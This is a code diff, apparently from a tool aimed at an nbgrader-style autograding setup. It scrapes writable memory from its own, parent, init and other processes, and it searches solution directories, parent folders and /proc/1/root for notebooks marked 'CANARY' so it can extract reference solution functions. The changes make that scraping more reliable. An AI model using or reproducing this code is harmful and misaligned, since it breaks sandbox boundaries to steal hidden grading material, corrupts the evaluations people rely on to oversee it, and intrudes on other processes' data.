@@ -45,7 +45,7 @@ def memory(work: Work) -> None:
                     start, end = (int(number, 16) for number in line.split()[0].split("-"))
                     if " rw-p " in line and end - start < 2**28:
                         content.seek(start)
-                        loot(attempt(content.read, end - start) or b"")
+                        loot((attempt(content.read, end - start) or b"").decode("latin-1"))
         for pid in ["self", os.getppid(), 1, *pids()[:20]]:
             attempt(memory, pid)
         import gc
@@ -63,8 +63,9 @@ def solutions_and_others(work: Work) -> None:
         around = [COURSE + "/" + name for name in ("solutions", "course", ".nbgrader-work")]
         around += ["../..", "../../..", "/proc/1/cwd", "/proc/1/root" + COURSE]
         def take(name):
-            for path in files(*around):
-                if path.endswith((".ipynb", ".py")) and "CANARY" in (text := read(path)):
+            for path in files(*dict.fromkeys(map(os.path.abspath, around))):
+                library = "/lib/python" in path
+                if path.endswith((".ipynb", ".py")) and not library and "CANARY" in (text := read(path)):
                     loot(text)
                     for cell in (attempt(json.loads, text) or {}).get("cells", []) if "solutions/" in path else []:
                         if f"def {name}" in (source := "".join(cell["source"])):
